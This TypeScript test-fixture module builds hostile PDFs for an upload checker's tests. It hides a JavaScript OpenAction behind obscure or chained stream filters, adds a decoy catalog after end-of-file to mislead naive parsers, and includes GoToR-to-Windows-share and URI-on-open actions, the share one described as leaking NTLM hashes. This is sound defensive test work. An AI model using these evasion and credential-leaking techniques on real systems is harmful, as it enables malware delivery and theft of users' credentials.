import { deflateSync } from 'node:zlib';

// Hostile PDFs written byte by byte, for the PDF check's tests (server/lib/upload-check/): the
// catalog with its OpenAction inside a compressed object stream whose filter an incomplete decoder
// does not know (an abbreviated name, a filter array, a predictor, a chain), and plain files whose
// OpenAction opens a remote file or a web address. pdf.js, the reader of the app's own viewer,
// runs the scripts of these files (server/lib/upload-check/checks.test.ts proves it per file).

/** A stream filter as written in the file, and how it encodes. */
export interface Encoding {
  /** The /Filter value as PDF text: `/Fl`, `[/AHx /Fl]`, … */
  filter: string;
  /** The /DecodeParms value as PDF text, if any. */
  parms?: string;
  encode(data: Buffer): Buffer;
}

const flate = (data: Buffer) => deflateSync(data);
const asciiHex = (data: Buffer) => Buffer.from(`${data.toString('hex')}>`, 'latin1');

/** ASCII base-85 (PDF 32000-1 7.4.3), ending with `~>`. */
function ascii85(data: Buffer): Buffer {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const chunk = Buffer.alloc(4);
    data.copy(chunk, 0, i, i + 4);
    const n = Math.min(4, data.length - i);
    let v = chunk.readUInt32BE(0);
    if (v === 0 && n === 4) {
      out += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let k = 0; k < 5; k++) {
      digits.unshift(String.fromCharCode(33 + (v % 85)));
      v = Math.floor(v / 85);
    }
    out += digits.slice(0, n + 1).join('');
  }
  return Buffer.from(`${out}~>`, 'latin1');
}

/**
 * LZW (PDF 32000-1 7.4.4, EarlyChange 1) that writes every byte as its own code: valid, not
 * smaller. A clear-table code every 250 bytes keeps the codes nine bits wide.
 */
function lzw(data: Buffer): Buffer {
  const codes: number[] = [256];
  data.forEach((byte, i) => {
    if (i > 0 && i % 250 === 0) codes.push(256);
    codes.push(byte);
  });
  codes.push(257);
  const out: number[] = [];
  let acc = 0;
  let bits = 0;
  for (const code of codes) {
    acc = (acc << 9) | code;
    bits += 9;
    while (bits >= 8) {
      out.push((acc >> (bits - 8)) & 0xff);
      bits -= 8;
    }
    acc &= (1 << bits) - 1;
  }
  if (bits > 0) out.push((acc << (8 - bits)) & 0xff);
  return Buffer.from(out);
}

/** Run-length (PDF 32000-1 7.4.5) as literal runs of at most 128 bytes, then the end mark. */
function runLength(data: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; i < data.length; i += 128) {
    const run = data.subarray(i, i + 128);
    parts.push(Buffer.from([run.length - 1]), run);
  }
  parts.push(Buffer.from([128]));
  return Buffer.concat(parts);
}

/** PNG "Up" prediction (predictor 12) of rows of `columns` bytes, each row led by its tag. */
function pngUp(data: Buffer, columns: number): Buffer {
  const rows = Math.ceil(data.length / columns);
  const padded = Buffer.alloc(rows * columns);
  data.copy(padded);
  const out = Buffer.alloc(rows * (columns + 1));
  for (let r = 0; r < rows; r++) {
    out[r * (columns + 1)] = 2;
    for (let c = 0; c < columns; c++) {
      const above = r > 0 ? padded[(r - 1) * columns + c]! : 0;
      out[r * (columns + 1) + 1 + c] = (padded[r * columns + c]! - above) & 0xff;
    }
  }
  return out;
}

/** The encodings an object stream is hidden behind in the tests. */
export const ENCODINGS: Record<string, Encoding> = {
  'abbreviated /Fl': { filter: '/Fl', encode: flate },
  'abbreviated /AHx': { filter: '/AHx', encode: asciiHex },
  'abbreviated /A85': { filter: '/A85', encode: ascii85 },
  'abbreviated /LZW': { filter: '/LZW', encode: lzw },
  'abbreviated /RL': { filter: '/RL', encode: runLength },
  'an array [/Fl]': { filter: '[/Fl]', encode: flate },
  'a chain [/AHx /Fl]': { filter: '[/AHx /Fl]', encode: (d) => asciiHex(flate(d)) },
  'FlateDecode with /Predictor 12': {
    filter: '/FlateDecode',
    parms: '<< /Predictor 12 >>',
    encode: (d) => flate(pngUp(d, 1)),
  },
  'FlateDecode with /Predictor 12 and /Columns 4': {
    filter: '/FlateDecode',
    parms: '<< /Predictor 12 /Columns 4 >>',
    encode: (d) => flate(pngUp(d, 4)),
  },
  // Filters no reader can apply to an object stream: whatever a viewer makes of them, the check
  // cannot read them, so it refuses them.
  'an image filter /DCT on an object stream': { filter: '/DCT', encode: flate },
  'an unknown filter before /Fl': { filter: '[/Foo /Fl]', encode: flate },
};

const SCRIPT_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Writes `objects` (number → body) as a PDF with a classic cross-reference table. */
function withXrefTable(objects: Map<number, Buffer>, root: number): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = parts[0]!.length;
  const offsets = new Map<number, number>();
  for (const [num, body] of [...objects].sort((a, b) => a[0] - b[0])) {
    offsets.set(num, at);
    const obj = Buffer.concat([Buffer.from(`${num} 0 obj\n`, 'latin1'), body, Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(obj);
    at += obj.length;
  }
  const size = Math.max(...objects.keys()) + 1;
  let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let n = 1; n < size; n++)
    xref += offsets.has(n) ? `${String(offsets.get(n)).padStart(10, '0')} 00000 n \n` : '0000000000 65535 f \n';
  xref += `trailer\n<< /Size ${size} /Root ${root} 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

const PAGES = '<< /Type /Pages /Kids [4 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 300 200] /Contents 5 0 R >>';
const CONTENT = 'BT /F1 12 Tf 20 150 Td (SK uji) Tj ET';
/** The page's text, as its content stream draws it. */
export const PAGE_CONTENT = CONTENT;
const contentStream = () => Buffer.from(`<< /Length ${CONTENT.length} >>\nstream\n${CONTENT}\nendstream`, 'latin1');

/**
 * A plain one-page PDF (no object streams) whose catalog carries `catalogExtra`; the page's content
 * stream is written with `content.filter` if given (its data encoded by the caller).
 */
export function plainPdf(catalogExtra: string, content?: { filter: string; data: Buffer }): Buffer {
  const objects = new Map<number, Buffer>([
    [2, Buffer.from(`<< /Type /Catalog /Pages 3 0 R ${catalogExtra} >>`, 'latin1')],
    [3, Buffer.from(PAGES, 'latin1')],
    [4, Buffer.from(PAGE, 'latin1')],
    [
      5,
      content
        ? Buffer.concat([
            Buffer.from(`<< /Length ${content.data.length} /Filter ${content.filter} >>\nstream\n`, 'latin1'),
            content.data,
            Buffer.from('\nendstream', 'latin1'),
          ])
        : contentStream(),
    ],
  ]);
  return withXrefTable(objects, 2);
}

/**
 * A one-page PDF whose catalog (object 2, carrying `catalogExtra`, by default a JavaScript
 * OpenAction) lies inside object stream 1, encoded as `encoding` says; a cross-reference stream
 * (object 6, uncompressed) points a viewer to it. A harmless plain copy of the catalog follows
 * the end of the file: a parser that reads objects in file order rather than through the
 * cross-reference finds a valid, harmless document.
 */
export function pdfWithCatalogInObjectStream(
  encoding: Encoding,
  catalogExtra = `/OpenAction ${SCRIPT_ACTION}`,
): Buffer {
  const catalog = `<< /Type /Catalog /Pages 3 0 R ${catalogExtra} >>`;
  const header = '2 0 ';
  const decoded = Buffer.from(`${header}${catalog}\n`, 'latin1');
  const data = encoding.encode(decoded);
  const parms = encoding.parms ? ` /DecodeParms ${encoding.parms}` : '';
  const objStm = Buffer.concat([
    Buffer.from(
      `<< /Type /ObjStm /N 1 /First ${header.length} /Filter ${encoding.filter}${parms} /Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);

  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = parts[0]!.length;
  const offsets: number[] = [];
  const add = (num: number, body: Buffer) => {
    offsets[num] = at;
    const obj = Buffer.concat([Buffer.from(`${num} 0 obj\n`, 'latin1'), body, Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(obj);
    at += obj.length;
  };
  add(1, objStm);
  add(3, Buffer.from(PAGES, 'latin1'));
  add(4, Buffer.from(PAGE, 'latin1'));
  add(5, contentStream());
  const xrefAt = at;
  // Entries of 1 + 4 + 2 bytes: type, offset (or object stream number), generation (or index).
  const entry = (type: number, field2: number, field3: number) => {
    const b = Buffer.alloc(7);
    b[0] = type;
    b.writeUInt32BE(field2, 1);
    b.writeUInt16BE(field3, 5);
    return b;
  };
  const rows = Buffer.concat([
    entry(0, 0, 65535),
    entry(1, offsets[1]!, 0),
    entry(2, 1, 0),
    entry(1, offsets[3]!, 0),
    entry(1, offsets[4]!, 0),
    entry(1, offsets[5]!, 0),
    entry(1, xrefAt, 0),
  ]);
  add(
    6,
    Buffer.concat([
      Buffer.from(`<< /Type /XRef /Size 7 /W [1 4 2] /Root 2 0 R /Length ${rows.length} >>\nstream\n`, 'latin1'),
      rows,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  );
  parts.push(
    Buffer.from(`startxref\n${xrefAt}\n%%EOF\n2 0 obj\n<< /Type /Catalog /Pages 3 0 R >>\nendobj\n`, 'latin1'),
  );
  return Buffer.concat(parts);
}

/** The file the report names: `/OpenAction` → GoToR to a Windows share (leaks the NTLM hash). */
export const goToRSharePdf = () =>
  plainPdf('/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\sk.pdf) /D [0 /Fit] >>');
/** `/OpenAction` → a web address, opened as the file opens. */
export const uriOnOpenPdf = () => plainPdf('/OpenAction << /S /URI /URI (https://contoh.invalid/jejak) >>');
